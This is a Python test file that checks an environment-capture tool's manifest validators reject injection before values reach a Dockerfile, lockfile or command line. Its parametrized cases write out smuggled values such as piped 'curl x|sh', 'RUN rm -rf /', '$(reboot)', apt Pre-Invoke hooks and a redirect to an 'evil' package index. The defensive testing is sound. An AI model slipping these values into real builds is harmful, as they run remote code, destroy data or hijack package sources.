"""Nothing from a manifest reaches a Dockerfile, lockfile or command line unchecked."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from buildtest_support import BOOKWORM_SECTIONS, manifest_from

from envcap.pins import validate as v
from envcap.pins.errors import ManifestRefused
from envcap.builder.lock import lock
from envcap.builder.dockerfile import render

BASE = "registry.example/base/debian@sha256:" + "1" * 64


def _with(path: list[Any], value: Any) -> dict[str, Any]:
    sections = copy.deepcopy(BOOKWORM_SECTIONS)
    target: Any = sections
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return sections


def _render(sections: dict[str, Any]) -> str:
    m = manifest_from(sections)
    return render(m, lock(m, hashes=None), BASE).dockerfile


@pytest.mark.parametrize(("path", "value", "field"), [
    (["python", "packages", 0, "name"], "numpy; curl x|sh", "sections.python.packages[0].name"),
    (["python", "packages", 0, "name"], "six\nRUN curl x | sh", "sections.python.packages[0].name"),
    (["python", "packages", 0, "name"], "-e/etc", "sections.python.packages[0].name"),
    (["python", "packages", 0, "version"], "1.0 --index-url http://evil", "sections.python.packages[0].version"),
    (["python", "packages", 0, "version"], "1.0\n--trusted-host evil", "sections.python.packages[0].version"),
    (["system", "packages", 0, "name"], "-o=APT::Update::Pre-Invoke::=sh", "sections.system.packages[0].name"),
    (["system", "packages", 0, "name"], "jq\nRUN rm -rf /", "sections.system.packages[0].name"),
    (["system", "packages", 0, "version"], "1.0 evil", "sections.system.packages[0].version"),
    (["system", "packages", 0, "version"], "$(reboot)", "sections.system.packages[0].version"),
    (["system", "packages", 0, "arch"], "amd64 evil", "sections.system.packages[0].arch"),
    (["python", "prefix"], "/opt/venv; rm -rf /", "sections.python.prefix"),
    (["python", "prefix"], "/opt/../etc", "sections.python.prefix"),
    (["python", "base_prefix"], "relative/usr", "sections.python.base_prefix"),
    (["python", "packages", 3, "origin", "url"], "https://x/y.git --index-url http://evil",
     "sections.python.packages[3].origin.url"),
    (["python", "packages", 3, "origin", "commit"], "main; curl x", "sections.python.packages[3].origin.commit"),
    (["python", "packages", 4, "origin", "sha256"], "not-a-digest", "sections.python.packages[4].origin.sha256"),
    (["environment", "variables", "PATH"], "/bin\nRUN curl x|sh", "sections.environment.variables.PATH"),
])
def test_hostile_values_are_refused_naming_the_field(path: list[Any], value: str, field: str) -> None:
    with pytest.raises(ManifestRefused) as err:
        _render(_with(path, value))
    assert field in str(err.value)
    assert str(err.value).startswith("manifest refused:")


def test_environment_values_cannot_expand_or_escape() -> None:
    text = _render(_with(["environment", "variables", "PATH"], 'a"$HOME\\b'))
    assert 'ENV PATH="a\\"\\$HOME\\\\b"' in text


def test_grammars_accept_real_values() -> None:
    assert v.python_name("f", "Django_REST.framework") == "django-rest-framework"
    for version in ("1.0", "2.5.0+cu130", "1!2.0.post1.dev3", "24.1rc1"):
        assert v.python_version("f", version) == version
    for name in ("libc6", "g++", "libstdc++6", "python3.11", "x11-common"):
        assert v.deb_name("f", name) == name
    for version in ("2.36-9+deb12u14", "1:9.18.28-1~deb12u2", "3.11.2-1+b1", "2025b-0+deb12u1", "1.0",
                    "0.0~git20230101.abc-1"):
        assert v.deb_version("f", version) == version
    for bad in ("a", "Libc6", "+x", "-x"):
        with pytest.raises(ManifestRefused):
            v.deb_name("f", bad)
    for bad in ("", "x1.0", "1.0-", "1:2:3 x", "1.0-rev_1"):
        with pytest.raises(ManifestRefused):
            v.deb_version("f", bad)
